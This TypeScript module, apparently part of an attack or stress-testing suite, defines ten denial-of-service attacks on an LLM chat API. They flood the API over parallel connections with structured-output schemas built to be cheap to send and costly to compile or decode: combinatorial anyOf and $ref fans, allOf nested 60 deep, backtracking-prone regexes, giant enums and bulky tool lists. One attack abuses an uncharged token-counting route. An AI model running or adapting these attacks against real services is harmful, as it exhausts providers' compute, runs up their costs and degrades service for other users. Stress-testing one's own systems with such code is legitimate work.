/** Schemas that are small to send and dear to compile or to draw with. */
import type { Attack, Target } from '../attack.ts'
import { asks, chat, count, flood, keyOf } from '../requests.ts'

const CONNECTIONS = 8
const question = asks('What is the capital of France?')

function answersBy(schema: object): object {
  return {
    messages: question,
    max_tokens: 16,
    response_format: { type: 'json_schema', json_schema: { name: 'answer', strict: true, schema } },
  }
}

function asTool(schema: object): object {
  const parameters = { type: 'object', properties: { x: schema }, required: ['x'] }
  return {
    messages: question,
    max_tokens: 16,
    tools: [{ type: 'function', function: { name: 'act', parameters } }],
    tool_choice: 'required',
  }
}

/** Chat requests whose answers are bound to a schema, over and over. */
function bomb(name: string, about: string, schemaOf: (number: number) => object): Attack {
  return {
    name,
    about,
    credit: '1',
    keys: 1,
    run: (target: Target) =>
      flood(target, CONNECTIONS, (number) => {
        const schema = schemaOf(number)
        const fields = number % 2 === 0 ? answersBy(schema) : asTool(schema)
        return chat(keyOf(target, number), fields)
      }),
  }
}

function numbered(length: number, make: (index: number) => object): object[] {
  return Array.from({ length }, (_, index) => make(index))
}

/** Every branch begins alike, on each level: branches to the power of levels ways to read it. */
function alikeBranches(levels: number, branches: number, salt: number): object {
  const inner = levels === 0 ? { type: 'string' } : alikeBranches(levels - 1, branches, salt)
  return {
    anyOf: numbered(branches, (index) => ({
      type: 'object',
      properties: { same: inner, [`end_${salt}_${index}`]: { type: 'integer' } },
      required: ['same'],
      additionalProperties: false,
    })),
  }
}

/** Written once and named many times: small to send, large when it is written out. */
function alikeReferences(levels: number, branches: number, salt: number): object {
  const $defs = Object.fromEntries(
    Array.from({ length: levels }, (_, level) => [
      `d${level}`,
      {
        anyOf: numbered(branches, (index) => ({
          type: 'object',
          properties: {
            same: level === 0 ? { type: 'string' } : { $ref: `#/$defs/d${level - 1}` },
            [`end_${salt}_${index}`]: { type: 'integer' },
          },
          required: ['same'],
          additionalProperties: false,
        })),
      },
    ]),
  )
  return { $defs, $ref: `#/$defs/d${levels - 1}` }
}

function referenceFan(levels: number, salt: number): object {
  const $defs: Record<string, object> = { d0: { type: 'string', minLength: salt % 7 } }
  for (let level = 1; level <= levels; level += 1) {
    const $ref = `#/$defs/d${level - 1}`
    $defs[`d${level}`] = { type: 'object', properties: { a: { $ref }, b: { $ref }, c: { $ref } } }
  }
  return { $defs, $ref: `#/$defs/d${levels}` }
}

function deepAllOf(depth: number, salt: number): object {
  let schema: object = { type: 'object', properties: { [`p${salt}`]: { type: 'string' } } }
  for (let level = 0; level < depth; level += 1) {
    schema = { allOf: [schema, { properties: { [`q${level}`]: { type: 'integer' } } }] }
  }
  return schema
}

const patterns = [
  '^(a|b|ab|ba|aab|bba)*(a{1,40}b{1,40}){1,40}$',
  '^([a-z]{1,60}\\.){1,60}[a-z]{2,60}$',
  '^(?:(?:a?){40}(?:b?){40}){20}$',
  '^(x+x+)+y{5,80}(z|zz|zzz){3,60}$',
]

function manyPatterns(salt: number): object {
  const properties = Object.fromEntries(
    Array.from({ length: 12 }, (_, index) => [
      `p${index}_${salt}`,
      { type: 'string', pattern: patterns[index % patterns.length] },
    ]),
  )
  return { type: 'object', properties, required: Object.keys(properties) }
}

export const schemaAttacks: readonly Attack[] = [
  bomb('alike-branches', 'three levels of 100 branches that begin alike', (number) =>
    alikeReferences(3, 100, number),
  ),
  bomb('alike-branches-written-out', 'the same idea without references: 3 levels of 12', (number) =>
    alikeBranches(3, 12, number),
  ),
  bomb('patterns', '12 regular expressions that are dear to compile', manyPatterns),
  bomb('reference-fan', 'references that triple on each of 12 levels', (number) =>
    referenceFan(12, number),
  ),
  bomb('deep-all-of', 'allOf in allOf, 60 deep', (number) => deepAllOf(60, number)),
  bomb('huge-enum', 'an enum of 20,000 texts', (number) => ({
    enum: Array.from({ length: 20_000 }, (_, index) => `value ${number} ${index}`),
  })),
  bomb('many-properties', 'an object of 5,000 optional properties', (number) => ({
    type: 'object',
    properties: Object.fromEntries(
      Array.from({ length: 5_000 }, (_, index) => [`p${number}_${index}`, { type: 'string' }]),
    ),
  })),
  bomb('long-repetitions', 'arrays and texts with large minimum lengths', (number) => ({
    type: 'array',
    minItems: 900 + (number % 90),
    items: { type: 'array', minItems: 90, items: { type: 'string', minLength: 900 } },
  })),
  {
    name: 'free-pattern-counts',
    about: 'the same expressions as tools on the free route for counting, without credit',
    credit: '0',
    keys: 2,
    run: (target) =>
      flood(target, CONNECTIONS, (number) =>
        count(keyOf(target, number), {
          messages: question,
          tools: [{ name: 'act', input_schema: manyPatterns(number) }],
        }),
      ),
  },
  {
    name: 'tool-flood',
    about: '128 tools of 1 KB in each request',
    credit: '1',
    keys: 2,
    run: (target) =>
      flood(target, CONNECTIONS, (number) =>
        chat(keyOf(target, number), {
          messages: question,
          max_tokens: 4,
          tools: numbered(128, (index) => ({
            type: 'function',
            function: {
              name: `tool_${number}_${index}`,
              description: 'd'.repeat(600),
              parameters: referenceFan(2, number),
            },
          })),
        }),
      ),
  },
]
